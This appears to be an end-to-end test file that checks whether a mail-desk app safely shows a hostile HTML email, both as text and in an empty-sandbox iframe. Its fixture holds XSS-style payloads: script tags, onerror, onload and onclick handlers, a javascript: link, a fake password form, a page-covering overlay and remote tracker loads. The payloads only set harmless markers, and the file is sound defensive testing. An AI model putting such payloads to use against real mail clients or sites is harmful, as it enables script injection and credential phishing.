// A mail of HTML that means ill, as an agent reads it: its words stand in the ledger and in a frame, and
// nothing of it runs, loads, covers or opens anything. Not: what is cleaned
// (channels/email/sanitise.test.ts).
import assert from 'node:assert/strict'
import { after } from 'node:test'
import { quiet, startJourney } from '#test/support/journey.ts'

const journey = await startJourney()
const { desk } = journey
after(() => journey.end())

const bo = await journey.enter('Bo Lind')
const subject = 'An offer for you'
const mark = 'document.title = "taken over"; window.top.tookOver = true; window.tookOver = true'
const html = `<style>body, .cover { position: fixed; inset: 0; z-index: 2147483647; background: red }</style>
<script>${mark.replaceAll('"', "'")}</script>
<p>The line drops <b>every evening</b> at eight.</p>
<img src="nowhere:" alt="a broken picture" onerror='${mark}'>
<img src="https://tracker.example/open.gif?who=bo" alt="a picture from afar">
<svg onload='${mark}'></svg>
<iframe src="https://tracker.example/frame"></iframe>
<meta http-equiv="refresh" content="0;url=https://tracker.example/refresh">
<form action="https://tracker.example/form"><input name="password"><button>Sign in again</button></form>
<div class="cover" style="position: fixed; inset: 0; z-index: 99999; background: url(https://tracker.example/b)">
<p>We covered everything.</p></div>
<p><a href="https://tracker.example/go" onclick='${mark}'>See the offer</a>
<a href='javascript:${mark}'>Run it</a></p>`

/** Whatever asked for something outside the desk, in any frame or window of his. */
const asked: string[] = []
bo.context().on('request', request => {
  if (!request.url().startsWith(desk.url) && !request.url().startsWith('data:')) asked.push(request.url())
})
const frame = bo.frameLocator('iframe')
/** Nothing ran, in the page or in the frame. */
async function nothingRan(): Promise<void> {
  for (const one of bo.frames())
    assert.equal(
      await one.evaluate('String(window.tookOver) + document.title.includes("taken")'),
      'undefinedfalse',
    )
}

journey.scene('its words stand in the ledger, as words', async () => {
  await desk.mail({ from: 'Anna Lind <anna@customers.example>', subject, html })
  await bo.goto(`${desk.url}/q/all`)
  await bo.getByRole('link', { name: subject }).click()
  await bo.getByRole('article').filter({ hasText: 'The line drops every evening at eight.' }).waitFor()
  assert.equal(await bo.locator('iframe').count(), 0)
  assert.equal(await bo.getByText('tookOver').count(), 0)
  await nothingRan()
})

journey.scene('as it was written it is shown in a frame that may do nothing', async () => {
  await bo.getByRole('button', { name: 'Show as written' }).click()
  await bo.getByTitle('The mail as it was written').waitFor()
  assert.equal(await bo.locator('iframe').getAttribute('sandbox'), '')
  assert.equal(await frame.locator('b').textContent(), 'every evening')
  for (const words of ['a picture from afar', 'We covered everything.', 'See the offer', 'Run it'])
    await frame.getByText(words).waitFor()
  await nothingRan()
})

journey.scene('nothing of it covers the page, nor itself', async () => {
  // As words, since it is looked at in the frame.
  const look = `[...document.querySelectorAll('body, div')].map(one => getComputedStyle(one).position)`
  const places = (await bo.mainFrame().childFrames()[0]!.evaluate(look)) as string[]
  assert.deepEqual([...new Set(places)], ['static'])
  for (const name of ['Take it', 'Follow', 'Write for the team'])
    await bo.getByRole('button', { name }).first().click({ trial: true })
  await frame.getByText('every evening').click({ trial: true })
})

journey.scene('it asks for no password, loads nothing from afar, and its link opens nothing', async () => {
  assert.equal(
    await frame.locator('form, input, button, script, style, svg, iframe, meta[http-equiv]').count(),
    0,
  )
  assert.equal(await frame.locator('img').count(), 0)
  assert.equal(await frame.getByText('Run it').getAttribute('href'), null)
  const { page, was } = { page: bo.url(), was: bo.frames().map(one => one.url()) }
  await frame.getByText('Run it').click()
  await frame.getByText('See the offer').click()
  await frame.getByText('every evening').waitFor()
  assert.deepEqual([bo.url(), bo.frames().map(one => one.url())], [page, was])
  assert.equal(bo.context().pages().length, 1)
  assert.deepEqual(asked, [])
  await nothingRan()
  quiet(journey)
})
